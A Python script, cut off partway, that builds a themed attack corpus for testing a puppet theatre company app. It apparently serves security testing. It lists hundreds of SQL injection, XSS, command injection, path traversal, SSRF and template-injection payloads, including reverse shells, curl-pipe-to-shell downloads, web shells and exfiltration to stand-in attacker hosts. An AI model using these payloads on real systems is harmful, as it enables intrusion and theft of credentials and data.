#!/usr/bin/env python3
"""Attack corpus for puppettheatre (puppet theatre company app). Stdlib only.
Almost all values are hand-written literals; the remainder come from one template
per category that joins a hand-written theme prefix to a hand-written payload.
Writes attacks.jsonl next to this file."""
import json
import os
import random

SEED = 21802
PREFIX = "haha"
TARGETS = {"sqli": 80, "xss": 78, "cmdi": 70, "traversal": 50, "ssrf": 50,
           "code": 84, "nosqli": 27, "crlf": 30, "ldap-xpath": 20}

# "class ⟫ value", one per line. In values "⏎" stands for a real CR LF pair.
LITERALS = r"""
## sqli
note-union-select ⟫ Fox jaw restring' UNION SELECT username,password_hash FROM staff_users--
note-union-select ⟫ Moon Rabbit matinee' UNION ALL SELECT NULL,card_last4,email FROM orders-- -
search-union-select ⟫ shadow puppets%' UNION SELECT table_name,NULL FROM information_schema.tables#
plain-boolean ⟫ ' OR '1'='1
plain-boolean ⟫ 1 OR 1=1
showid-numeric-boolean ⟫ 101 OR 2>1
showid-numeric-union ⟫ 102 UNION SELECT 1,@@version,3,4
booking-ref-stacked-mssql ⟫ BO-558213'; EXEC xp_cmdshell 'whoami'--
booking-ref-stacked-pg ⟫ BO-44120'; DROP TABLE bookings;--
venue-time-mysql ⟫ Harbour Hall' AND SLEEP(5)-- x
venue-time-pg ⟫ Main Stage'||(SELECT pg_sleep(6))||'
venue-time-mssql ⟫ Studio'; WAITFOR DELAY '0:0:7'--
showid-time-oracle ⟫ 103 AND 1=DBMS_PIPE.RECEIVE_MESSAGE('x',8)
search-time-sqlite ⟫ fox' AND 1=randomblob(900000000)--
note-error-mysql ⟫ Gretel crate' AND extractvalue(1,concat(0x7e,(SELECT user())))-- -
note-error-mysql ⟫ owl wing' AND updatexml(1,concat(0x3a,(SELECT database())),1)#
note-error-mssql ⟫ Witch hat' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sys.tables))--
note-error-pg ⟫ dragon tail' AND 1=CAST((SELECT current_user) AS int)--
showid-error-oracle ⟫ 104 AND 1=CTXSYS.DRITHSX.SN(1,(SELECT user FROM dual))
search-blind-substring ⟫ pinocchio' AND SUBSTRING((SELECT password FROM admins LIMIT 1),1,1)='a'-- 
search-blind-ascii ⟫ snow queen' AND ASCII(SUBSTR((SELECT api_key FROM settings WHERE rownum=1),1,1))>77--
order-by-injection ⟫ date,(SELECT CASE WHEN (1=1) THEN 1 ELSE 1/(SELECT 0) END)
order-by-injection ⟫ title ASC, IF((SELECT COUNT(*) FROM staff_users)>0,SLEEP(4),0)
order-by-column-probe ⟫ 1 ORDER BY 9--
comment-as-space ⟫ fox'/**/UNION/**/SELECT/**/login,pass/**/FROM/**/users#
comment-as-space ⟫ 105/**/or/**/1=1
mysql-versioned-comment ⟫ owl' /*!50000UNION*/ /*!50000SELECT*/ 1,2,group_concat(email) FROM customers-- -
case-mixing ⟫ ReD CloAk' uNiOn SeLeCt password,2 FrOm users--
case-mixing ⟫ lantern' oR 1=1 LiMiT 1 -- 
hash-comment-mysql ⟫ admin'#
login-bypass ⟫ boxoffice@lanternfold.example.org'--
login-bypass ⟫ admin' OR 1=1 LIMIT 1-- -
login-bypass-doublequote ⟫ mira" OR "x"="x
paren-breakout ⟫ Year 3') OR ('a'='a
paren-breakout ⟫ 28)) OR ((1=1
stacked-insert ⟫ Great show!'); INSERT INTO staff_users(login,role) VALUES('puppetmaster','admin');--
stacked-update ⟫ BO-61277'; UPDATE orders SET total=0 WHERE ref LIKE 'BO-%';--
pg-copy-program ⟫ x'; COPY (SELECT '') TO PROGRAM 'curl http://attacker.example/p|sh';--
mssql-oob-dns ⟫ Kasperle'; EXEC master..xp_dirtree '\\attacker.example\share';--
mysql-outfile ⟫ fox' UNION SELECT '<?php system($_GET[c]); ?>' INTO OUTFILE '/var/www/html/s.php'-- -
mysql-loadfile ⟫ owl' UNION SELECT LOAD_FILE('/etc/passwd'),2-- -
oracle-oob-http ⟫ heron' AND UTL_HTTP.REQUEST('http://attacker.example/'||(SELECT user FROM dual)) IS NOT NULL--
sqlite-master ⟫ ' UNION SELECT name, sql FROM sqlite_master--
having-groupby-probe ⟫ ' HAVING 1=1--
like-wildcard-or ⟫ %' OR title LIKE '%
concat-pipe-pg ⟫ Fox'||(SELECT string_agg(email,',') FROM customers)||'
mssql-plus-concat ⟫ Fox'+(SELECT TOP 1 password FROM users)+'
numeric-hex-tautology ⟫ 0x31 OR 0x1=0x1
between-tautology ⟫ 5 OR 3 BETWEEN 1 AND 4
workshop-count-subquery ⟫ 24 AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)
note-union-null-padding ⟫ Hansel nose' UNION SELECT NULL,NULL,NULL,NULL,NULL--
note-union-fromdual ⟫ Crow' UNION SELECT banner,NULL FROM v$version--
note-xmltype-oracle ⟫ Mouse King' AND 1=(SELECT UPPER(XMLType(CHR(60)||CHR(58)||(SELECT user FROM dual)||CHR(62))) FROM dual)--
char-encoded-string ⟫ ' UNION SELECT CHAR(97,100,109,105,110),2--
unicode-quote-fullwidth ⟫ Fox＇ OR ＇1＇=＇1
urlencoded+urlencode ⟫ fox%27%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--
double-urlencoded+doubleurlencode ⟫ owl%2527%2520OR%25201%253D1--
newline-comment ⟫ 1 OR 1=1%0a--
boolean-no-space ⟫ '||'1'='1
boolean-no-space ⟫ 'or(1)=(1)#
seat-in-clause ⟫ A1') OR 1=1 OR seat IN ('A2
case-when-blind ⟫ 1 AND (SELECT CASE WHEN (SUBSTRING(current_user,1,1)='p') THEN pg_sleep(3) ELSE pg_sleep(0) END) IS NULL
benchmark-time ⟫ Moon' AND BENCHMARK(5000000,MD5('x'))-- -
mssql-openrowset ⟫ x'; SELECT * FROM OPENROWSET('SQLOLEDB','server=203.0.113.7;uid=sa;pwd=x','SELECT 1')--
pg-lo-import ⟫ '; SELECT lo_import('/etc/passwd');--
json-field-union ⟫ {"note":"puppet glue' UNION SELECT secret FROM api_tokens--"}
csv-import-cell ⟫ 101,The Fox' UNION SELECT user(),2,3,4,5-- ,2025-06-14,11:00
review-stacked-shutdown ⟫ Loved it'; SHUTDOWN WITH NOWAIT;--
mysql-information-columns ⟫ ' AND 0 UNION SELECT column_name,1 FROM information_schema.columns WHERE table_name='orders'-- -
postgres-dollar-quote ⟫ '; SELECT $$x$$ || (SELECT passwd FROM pg_shadow LIMIT 1);--
mysql-backtick-ident ⟫ 1 UNION SELECT `password`,`login` FROM `staff_users`
blind-if-mysql ⟫ 1 AND IF(ORD(MID((SELECT password FROM users LIMIT 1),1,1))>64,SLEEP(3),0)
limit-offset-union ⟫ 10 OFFSET 0 UNION SELECT username FROM staff_users
## xss
note-script-tag ⟫ Fox build notes <script>fetch('https://attacker.example/c?'+document.cookie)</script>
plain-script ⟫ <script>alert(document.domain)</script>
review-img-onerror ⟫ ★★★★★ loved it <img src=x onerror=alert(1)>
review-img-onerror ⟫ Magical show!! <img src="nope.png" onerror="new Image().src='//attacker.example/?c='+document.cookie">
name-svg-onload ⟫ Mira <svg onload=alert(document.cookie)>
name-svg-onload ⟫ <svg/onload=confirm`1`>
chat-body-onload ⟫ good show everyone <body onload=alert('xss')>
bio-iframe-javascript ⟫ Puppeteer & beekeeper <iframe src="javascript:alert(origin)"></iframe>
portfolio-javascript-uri ⟫ javascript:alert(document.cookie)
portfolio-javascript-uri-case ⟫ JaVaScRiPt:eval(atob('YWxlcnQoMSk='))
portfolio-javascript-uri-entity ⟫ jav&#x09;ascript:alert(1)
portfolio-javascript-uri-entity ⟫ &#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)
attr-breakout-doublequote ⟫ Harbour Hall" onmouseover="alert(1)" x="
attr-breakout-singlequote ⟫ Studio' autofocus onfocus='alert(document.domain)
attr-breakout-tag ⟫ Fox & Lantern"><script>alert(1)</script>
js-string-breakout ⟫ Moon Rabbit';alert(String.fromCharCode(88,83,83));//
js-string-breakout ⟫ Pinocchio\";alert(1);//
script-close-breakout ⟫ </script><script>alert(document.cookie)</script>
textarea-breakout ⟫ </textarea><img src=x onerror=alert(1)>
title-breakout ⟫ </title><svg onload=alert(1)>
details-ontoggle ⟫ <details open ontoggle=alert(1)>
video-source-onerror ⟫ Trailer: <video><source onerror="alert(1)"></video>
audio-onerror ⟫ Sound cue 14 <audio src=x onerror=alert(1)>
input-autofocus ⟫ <input autofocus onfocus=alert(1)>
marquee-onstart ⟫ <marquee onstart=alert(1)>Fox!</marquee>
anchor-href-javascript ⟫ [Seat map](javascript:alert(document.cookie))
markdown-img-onerror ⟫ ![owl](x" onerror="alert(1))
markdown-link-data-uri ⟫ [tickets](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
object-data-uri ⟫ <object data="data:text/html,<script>alert(1)</script>"></object>
embed-src ⟫ <embed src="javascript:alert(1)">
meta-refresh ⟫ <meta http-equiv="refresh" content="0;url=javascript:alert(1)">
base-href-hijack ⟫ <base href="https://attacker.example/">
form-action-hijack ⟫ <form action="https://attacker.example/steal" method="post"><input name="card" placeholder="Card number"><button>Pay</button></form>
style-expression-ie ⟫ <div style="width:expression(alert(1))">Fox</div>
svg-animate-href ⟫ <svg><animate attributeName=href values=javascript:alert(1) /><a><text x=20 y=20>tickets</text></a></svg>
svg-script-xlink ⟫ <svg><script xlink:href="https://attacker.example/x.js"></script></svg>
math-mglyph-mutation ⟫ <math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
noscript-mutation ⟫ <noscript><p title="</noscript><img src=x onerror=alert(1)>">
template-angular ⟫ {{constructor.constructor('alert(1)')()}}
template-angular-legacy ⟫ {{$on.constructor('alert(document.cookie)')()}}
template-vue ⟫ <div v-html="'<img src=x onerror=alert(1)>'"></div>
entity-encoded-tag ⟫ &lt;script&gt;alert(1)&lt;/script&gt;
urlencoded+urlencode ⟫ %3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E
double-urlencoded+doubleurlencode ⟫ %253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E
unicode-escape-js ⟫ <script>\u0061lert(1)</script>
case-mix-tag ⟫ <ScRiPt>prompt(1)</sCrIpT>
nested-strip-bypass ⟫ <scr<script>ipt>alert(1)</scr</script>ipt>
svg-anchor-javascript ⟫ <svg><a xlink:href="javascript:alert(1)"><text x="10" y="20">Book</text></a></svg>
slash-separator ⟫ <img/src/onerror=alert(1)>
newline-in-attr ⟫ <img src=x⏎onerror=alert(1)>
tab-in-javascript ⟫ <a href="java	script:alert(1)">Book now</a>
backtick-call ⟫ <svg onload=alert`document.domain`>
fetch-exfil ⟫ Box office note <script>fetch('//attacker.example/k',{method:'POST',body:localStorage.getItem('token')})</script>
keylogger ⟫ <script>document.onkeypress=function(e){new Image().src='//attacker.example/k?'+e.key}</script>
import-module ⟫ <script type=module>import('https://attacker.example/m.js')</script>
srcdoc-iframe ⟫ <iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>
link-import ⟫ <link rel=import href="https://attacker.example/x.html">
onpointer-event ⟫ <p onpointerenter=alert(1)>hover for showtimes</p>
contenteditable-onfocus ⟫ <div contenteditable autofocus onfocus=alert(1)>edit me</div>
settimeout-string ⟫ <img src=x onerror="setTimeout('ale'+'rt(1)')">
eval-fromcharcode ⟫ <img src=x onerror=eval(String.fromCharCode(97,108,101,114,116,40,49,41))>
dom-hash-sink ⟫ #<img src=x onerror=alert(location.hash)>
email-template-xss ⟫ Hi {{first_name}}, <img src=x onerror=alert(1)>
csv-name-xss ⟫ Mira Hale,<svg onload=alert(1)>,SM
json-value-xss ⟫ {"show":"Fox <script>alert(1)</script>","capacity":180}
svg-file-upload ⟫ <?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><circle r="40"/></svg>
fullwidth-tag ⟫ ＜script＞alert(1)＜/script＞
overlong-utf8-lt ⟫ %C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE
percent-u-encoding ⟫ %u003Cscript%u003Ealert(1)%u003C/script%u003E
html-entity-no-semicolon ⟫ <a href="javascript&colon;alert&lpar;1&rpar;">seats</a>
object-onerror ⟫ <object data=x onerror=alert(1)>
xmp-breakout ⟫ </xmp><script>alert(1)</script>
style-import ⟫ <style>@import 'https://attacker.example/x.css';</style>
## cmdi
note-semicolon ⟫ fox_head_v4.pdf; cat /etc/passwd
filename-pipe ⟫ owl_wing.svg | nc 203.0.113.9 4444 -e /bin/sh
filename-and ⟫ seatmap.json && curl http://attacker.example/s.sh | sh
filename-or ⟫ missing.png || wget -qO- http://attacker.example/x | bash
subshell-dollar ⟫ Tour 2025 $(id)
subshell-backtick ⟫ poster_`whoami`.jpg
plain-semicolon ⟫ ; id
plain-pipe ⟫ | id
newline-separator ⟫ lantern.png%0aid
newline-separator ⟫ moon.png⏎uname -a
ifs-space-bypass ⟫ x;cat${IFS}/etc/passwd
ifs-space-bypass ⟫ ;cat$IFS$9/etc/shadow
brace-expansion ⟫ ;{cat,/etc/passwd}
quote-split-bypass ⟫ ;c'a't /e"t"c/pas''swd
backslash-split-bypass ⟫ ;w\h\o\a\m\i
variable-concat ⟫ ;a=ca;b=t;$a$b /etc/passwd
wildcard-path ⟫ ;/???/c?t /???/p??s??
base64-pipe ⟫ ; echo Y2F0IC9ldGMvcGFzc3dk | base64 -d | sh
reverse-shell-bash ⟫ Harbour Hall; bash -i >& /dev/tcp/203.0.113.15/9001 0>&1
reverse-shell-python ⟫ x; python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.15",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")'
reverse-shell-mkfifo ⟫ ;rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 198.51.100.4 4242 >/tmp/f
time-sleep ⟫ Fox & Lantern; sleep 10
time-ping ⟫ poster.png & ping -c 10 127.0.0.1 &
dns-exfil ⟫ ;nslookup $(whoami).attacker.example
curl-exfil ⟫ ;curl -d @/etc/passwd https://attacker.example/up
write-webshell ⟫ ;echo '<?php system($_GET["c"]);?>' > /var/www/html/p.php
cron-persist ⟫ ;(crontab -l; echo '* * * * * curl -s attacker.example/b|sh') | crontab -
ssh-key-plant ⟫ ;echo ssh-ed25519 AAAAFAKEKEYPLACEHOLDER x@attacker >> ~/.ssh/authorized_keys
argument-injection-tar ⟫ --checkpoint=1 --checkpoint-action=exec=sh shell.sh
argument-injection-find ⟫ puppets -exec sh -c 'id' ;
argument-injection-curl ⟫ -o /var/www/html/x.php http://attacker.example/x.txt
argument-injection-curl-config ⟫ -K /etc/shadow
argument-injection-git ⟫ --upload-pack=touch /tmp/pwned
argument-injection-ssh ⟫ -oProxyCommand=curl attacker.example/s|sh
argument-injection-zip ⟫ -TT 'sh -c id' archive.zip
argument-injection-sendmail ⟫ boxoffice@lanternfold.example.org -OQueueDirectory=/tmp -X/var/www/html/log.php
argument-injection-imagemagick ⟫ fox.png -write /var/www/html/x.php
argument-injection-rsync ⟫ -e sh -c 'id>/tmp/o' 
argument-injection-wget ⟫ --post-file=/etc/passwd http://attacker.example/
imagemagick-delegate ⟫ |curl http://attacker.example/x.sh|sh
ffmpeg-filename ⟫ trailer.mp4"; curl attacker.example/f | sh; echo "
windows-ampersand ⟫ poster.png & type C:\Windows\win.ini
windows-pipe ⟫ tour.xlsx | whoami /all
windows-certutil ⟫ x & certutil -urlcache -split -f http://attacker.example/a.exe %TEMP%\a.exe & %TEMP%\a.exe
windows-caret-obfuscation ⟫ & w^h^o^a^m^i
windows-env-substring ⟫ & %COMSPEC:~-7,1%%COMSPEC:~-6,1% net user
windows-powershell-iex ⟫ ; powershell -nop -c "IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/p.ps1')"
windows-powershell-encoded ⟫ & powershell -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwBhAHQAdABhAGMAawBlAHIALgBlAHgAYQBtAHAAbABlAC8AcAAuAHAAcwAxACAALQBVAHMAZQBCAGEAcwBpAGMAUABhAHIAcwBpAG4AZwApAC4AQwBvAG4AdABlAG4AdAA=
windows-powershell-subexpr ⟫ Moon Rabbit $(Invoke-WebRequest http://attacker.example/x -OutFile C:\Users\Public\x.exe)
windows-bitsadmin ⟫ && bitsadmin /transfer j http://attacker.example/b.exe C:\Temp\b.exe
windows-mshta ⟫ | mshta http://attacker.example/x.hta
windows-rundll32 ⟫ & rundll32 \\203.0.113.20\share\p.dll,Start
windows-net-user ⟫ & net user puppet P@ss-fake-123 /add && net localgroup administrators puppet /add
process-substitution ⟫ ;cat <(id)
hex-printf ⟫ ;$(printf '\x69\x64')
rev-pipe ⟫ ;echo dwssap/cte/ tac | rev | sh
perl-oneliner ⟫ ;perl -e 'system("id")'
php-cli ⟫ ;php -r 'system("id");'
awk-system ⟫ ;awk 'BEGIN{system("id")}'
env-dump ⟫ ;env | curl -X POST --data-binary @- http://attacker.example/e
tour-route-semicolon ⟫ Bristol → Cardiff; cat ~/.aws/credentials
build-note-dollar ⟫ Dragon tail $(curl -s http://198.51.100.23/x|sh) 7 segments
ping-host-field ⟫ 127.0.0.1; ls -la /
ping-host-field ⟫ 8.8.8.8 && cat /etc/hostname
urlencoded+urlencode ⟫ poster.png%3B%20cat%20%2Fetc%2Fpasswd
double-urlencoded+doubleurlencode ⟫ x%2526%2526id
urlencoded-semicolon+urlencode ⟫ fox.png%3Bid
## traversal
file-dotdot-etc ⟫ ../../../../etc/passwd
file-dotdot-etc ⟫ Builds/2025/Fox/../../../../../etc/shadow
export-path-dotdot ⟫ /home/boxoffice/exports/../../../root/.ssh/id_rsa
import-file-dotdot ⟫ ../../../../var/www/.env
seatmap-dotdot ⟫ seatmaps/../../config/database.yml
logo-dotdot ⟫ assets/img/../../../../proc/self/environ
windows-backslash ⟫ ..\..\..\..\Windows\win.ini
windows-backslash ⟫ D:\Theatre\Backups\..\..\..\Windows\System32\config\SAM
windows-mixed-slash ⟫ ..\../..\../boot.ini
absolute-path ⟫ /etc/passwd
absolute-path-windows ⟫ C:\inetpub\wwwroot\web.config
unc-path ⟫ \\203.0.113.30\share\fox.png
urlencoded+urlencode ⟫ %2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd
urlencoded-slash+urlencode ⟫ ..%2f..%2f..%2f..%2fetc%2fhosts
double-urlencoded+doubleurlencode ⟫ %252e%252e%252f%252e%252e%252fetc%252fpasswd
overlong-utf8 ⟫ %c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd
overlong-utf8-slash ⟫ ..%c0%af..%c0%af..%c0%afetc%c0%afpasswd
overlong-utf8-backslash ⟫ ..%c1%9c..%c1%9cwindows%c1%9cwin.ini
percent-u ⟫ %u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd
nested-strip-bypass ⟫ ....//....//....//etc/passwd
nested-strip-bypass-backslash ⟫ ....\\....\\....\\windows\\win.ini
dot-dot-semicolon-tomcat ⟫ /static/..;/..;/WEB-INF/web.xml
null-byte-extension ⟫ ../../../etc/passwd%00.png
double-urlencoded-slash+doubleurlencode ⟫ ..%252f..%252f..%252fetc%252fpasswd
file-uri ⟫ file:///etc/passwd
file-uri-windows ⟫ file:///C:/Windows/win.ini
php-filter-wrapper ⟫ php://filter/convert.base64-encode/resource=../config.php
php-zip-wrapper ⟫ zip://uploads/puppet-photos/fox.jpg%23shell.php
proc-self ⟫ ../../../../proc/self/cmdline
proc-fd ⟫ /proc/self/fd/3
k8s-secret ⟫ ../../../../var/run/secrets/kubernetes.io/serviceaccount/token
cloud-creds ⟫ ../../../../../home/deploy/.aws/credentials
git-config ⟫ ../../.git/config
ssh-authorized ⟫ ../../../../root/.ssh/authorized_keys
log-poison-target ⟫ ../../../../var/log/nginx/access.log
zip-slip-entry ⟫ puppets/../../../../../var/www/html/shell.jsp
zip-slip-entry-windows ⟫ photos\..\..\..\..\ProgramData\evil.bat
build-note-path ⟫ Template is at ../../../../../../etc/passwd
fullwidth-dots ⟫ ．．/．．/．．/etc/passwd
url-path-semicolon ⟫ /download/..%3b/..%3b/..%3b/etc/passwd
backslash-urlencoded ⟫ ..%5c..%5c..%5c..%5cwindows%5cwin.ini
dotdot-trailing-dot-windows ⟫ ..\..\..\windows\win.ini. . .
tilde-home ⟫ ~/.bash_history
windows-inetpub ⟫ ..\..\..\inetpub\wwwroot\web.config
encoded-dot-only ⟫ %2e%2e/%2e%2e/%2e%2e/etc/group
## ssrf
webhook-metadata-aws ⟫ http://169.254.169.254/latest/meta-data/iam/security-credentials/
webhook-metadata-gcp ⟫ http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token
webhook-metadata-azure ⟫ http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/
webhook-metadata-alibaba ⟫ http://100.100.100.200/latest/meta-data/ram/security-credentials/
calendar-feed-localhost ⟫ http://127.0.0.1:8080/admin/users.ics
calendar-feed-localhost ⟫ http://localhost:9200/_cat/indices
photo-url-internal ⟫ https://10.0.0.12/internal/backup.tar.gz
photo-url-internal ⟫ http://192.168.1.1/cgi-bin/config.exp
photo-url-internal ⟫ http://172.16.4.20:2375/containers/json
decimal-ip ⟫ http://2130706433/admin
octal-ip ⟫ http://0177.0.0.1/server-status
hex-ip ⟫ http://0x7f000001:6379/
short-ip ⟫ http://127.1/actuator/env
zero-ip ⟫ http://0.0.0.0:8500/v1/agent/self
ipv6-loopback ⟫ http://[::1]:11211/
ipv6-mapped ⟫ http://[::ffff:169.254.169.254]/latest/meta-data/
ipv6-mapped-hex ⟫ http://[0:0:0:0:0:ffff:7f00:1]/admin
decimal-metadata ⟫ http://2852039166/latest/meta-data/
hex-metadata ⟫ http://0xa9.0xfe.0xa9.0xfe/latest/user-data
dword-mixed ⟫ http://169.254.43518/latest/meta-data/
userinfo-confusion ⟫ https://photos.example.org@169.254.169.254/latest/meta-data/
userinfo-confusion ⟫ http://lanternfold.example.org:80@127.0.0.1:8000/
fragment-confusion ⟫ http://127.0.0.1#@photos.example.org/fox.jpg
backslash-confusion ⟫ http://photos.example.org\@10.0.0.5/
redirect-open ⟫ https://attacker.example/redirect?to=http://169.254.169.254/latest/meta-data/
dns-rebinding ⟫ http://7f000001.a9fea9fe.rbndr.attacker.example/
wildcard-dns-internal ⟫ http://127.0.0.1.nip.io:8080/admin
internal-service-name ⟫ http://kubernetes.default.svc/api/v1/namespaces/default/secrets
internal-service-name ⟫ http://consul.service.internal:8500/v1/kv/?recurse
internal-service-name ⟫ http://redis:6379/
gopher-redis ⟫ gopher://127.0.0.1:6379/_SET%20x%20%22%5Cn*%2F1%20*%20*%20*%20*%20bash%20-i%3E%26%2Fdev%2Ftcp%2F203.0.113.40%2F4444%200%3E%261%5Cn%22%0D%0ACONFIG%20SET%20dir%20%2Fvar%2Fspool%2Fcron%0D%0ASAVE%0D%0A
gopher-smtp ⟫ gopher://127.0.0.1:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Cbo%40lanternfold.example.org%3E%0D%0A
dict-protocol ⟫ dict://127.0.0.1:11211/stats
file-protocol ⟫ file:///etc/hosts
ldap-protocol ⟫ ldap://127.0.0.1:389/%0astats%0aquit
tftp-protocol ⟫ tftp://203.0.113.41/fox.png
jar-protocol ⟫ jar:http://127.0.0.1:8080/app.jar!/
netdoc-java ⟫ netdoc:///etc/passwd
import-url-json ⟫ {"import_url":"http://169.254.169.254/latest/meta-data/iam/security-credentials/boxoffice-role"}
ics-import-internal ⟫ Sync calendar from http://10.1.2.3:8080/manager/html
pdf-render-iframe ⟫ <iframe src="http://169.254.169.254/latest/meta-data/" width=800></iframe>
svg-image-href ⟫ <svg xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="http://127.0.0.1:8080/admin"/></svg>
urlencoded-host+urlencode ⟫ http://%31%32%37%2e%30%2e%30%2e%31/admin
enclosed-alnum ⟫ http://①②⑦.⓪.⓪.①/admin
docker-socket ⟫ http://unix:/var/run/docker.sock:/containers/json
elasticsearch-internal ⟫ http://es-internal.svc.cluster.local:9200/_search?q=*
## code
ssti-jinja2 ⟫ {{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}
ssti-jinja2 ⟫ Hi {{ cycler.__init__.__globals__.os.popen('cat /etc/passwd').read() }}, thanks for booking
ssti-jinja2-config ⟫ {{ config.items() }}
ssti-jinja2-subclasses ⟫ {{ ''.__class__.__mro__[1].__subclasses__() }}
ssti-jinja2-attr-bypass ⟫ {{ request|attr('application')|attr('\x5f\x5fglobals\x5f\x5f')|attr('\x5f\x5fgetitem\x5f\x5f')('\x5f\x5fbuiltins\x5f\x5f')|attr('\x5f\x5fgetitem\x5f\x5f')('\x5f\x5fimport\x5f\x5f')('os')|attr('popen')('id')|attr('read')() }}
ssti-jinja2-block ⟫ {% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{ x()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}
ssti-twig ⟫ {{['id']|filter('system')}}
ssti-twig ⟫ {{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}
ssti-twig-map ⟫ {{['cat /etc/passwd']|map('passthru')|join}}
ssti-freemarker ⟫ <#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}
ssti-freemarker-api ⟫ ${"freemarker.template.utility.ObjectConstructor"?new()("java.lang.ProcessBuilder",["id"]).start()}
ssti-velocity ⟫ #set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()
ssti-thymeleaf ⟫ __${T(java.lang.Runtime).getRuntime().exec('id')}__::.x
ssti-erb ⟫ <%= `id` %>
ssti-erb ⟫ Reminder: <%= system('cat /etc/passwd') %>
ssti-erb-file ⟫ <%= File.open('/etc/passwd').read %>
ssti-smarty ⟫ {system('id')}
ssti-smarty-php ⟫ {php}echo `id`;{/php}
ssti-mako ⟫ ${self.module.cache.util.os.system('id')}
ssti-mako-block ⟫ <% import os; x=os.popen('id').read() %>${x}
ssti-tornado ⟫ {% import os %}{{ os.popen('id').read() }}
ssti-handlebars ⟫ {{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub "constructor")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push "return process.mainModule.require('child_process').execSync('id');"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}
ssti-pug ⟫ #{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad("child_process").exec('id')}()}
ssti-ejs ⟫ <%= process.mainModule.require('child_process').execSync('id') %>
ssti-nunjucks ⟫ {{range.constructor("return global.process.mainModule.require('child_process').execSync('id')")()}}
ssti-go-template ⟫ {{ .System "id" }}
ssti-razor ⟫ @System.Diagnostics.Process.Start("cmd.exe","/c whoami")
ssti-pebble ⟫ {{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('id') }}
ssti-django-debug ⟫ {{ settings.SECRET_KEY }}
ssti-jsp-el ⟫ ${pageContext.request.getSession().getServletContext().getClassLoader()}
el-java ⟫ ${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}
el-java-hash ⟫ #{session.getServletContext().getRealPath('/')}
spel ⟫ T(java.lang.Runtime).getRuntime().exec("id")
spel ⟫ #{T(java.lang.Runtime).getRuntime().exec(new String[]{"sh","-c","curl attacker.example|sh"})}
spel-processbuilder ⟫ ${new java.lang.ProcessBuilder({'id'}).start()}
ognl ⟫ %{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}
ognl-struts ⟫ %{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}
mvel ⟫ Runtime.getRuntime().exec("id");
log4shell-ldap ⟫ ${jndi:ldap://attacker.example:1389/a}
log4shell-nested ⟫ Fox & Lantern ${${lower:j}${lower:n}${lower:d}${lower:i}:${lower:r}mi://203.0.113.50/x}
log4shell-default-bypass ⟫ ${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://attacker.example/o}
log4shell-env-exfil ⟫ ${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example/}
log4shell-useragent-note ⟫ Booking for Year 3 ${jndi:ldaps://198.51.100.60/Exploit}
eval-python ⟫ __import__('os').system('id')
eval-python ⟫ 24 + __import__('subprocess').check_output(['id'])
eval-js-node ⟫ require('child_process').exec('curl attacker.example/n|sh')
eval-js-node ⟫ process.mainModule.require('fs').readFileSync('/etc/passwd','utf8')
eval-js-constructor ⟫ this.constructor.constructor('return process')().exit()
eval-php ⟫ phpinfo();
eval-php ⟫ ";system($_GET['c']);//
eval-php-assert ⟫ ${@eval($_POST['x'])}
eval-ruby ⟫ #{`id`}
eval-perl ⟫ @{[ system("id") ]}
prototype-pollution-json ⟫ {"__proto__":{"isAdmin":true}}
prototype-pollution-constructor ⟫ {"constructor":{"prototype":{"role":"admin"}}}
prototype-pollution-query ⟫ __proto__[outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');//
prototype-pollution-dotpath ⟫ settings.__proto__.shell=/proc/self/exe
csv-formula-cmd ⟫ =cmd|' /C calc'!A0
csv-formula-hyperlink ⟫ =HYPERLINK("https://attacker.example/?d="&A1&B1,"View seat map")
csv-formula-dde ⟫ @SUM(1+1)*cmd|' /C powershell IEX(wget attacker.example/p)'!A0
csv-formula-plus ⟫ +cmd|' /C notepad'!'A1'
csv-formula-minus ⟫ -2+3+cmd|' /C calc'!A0
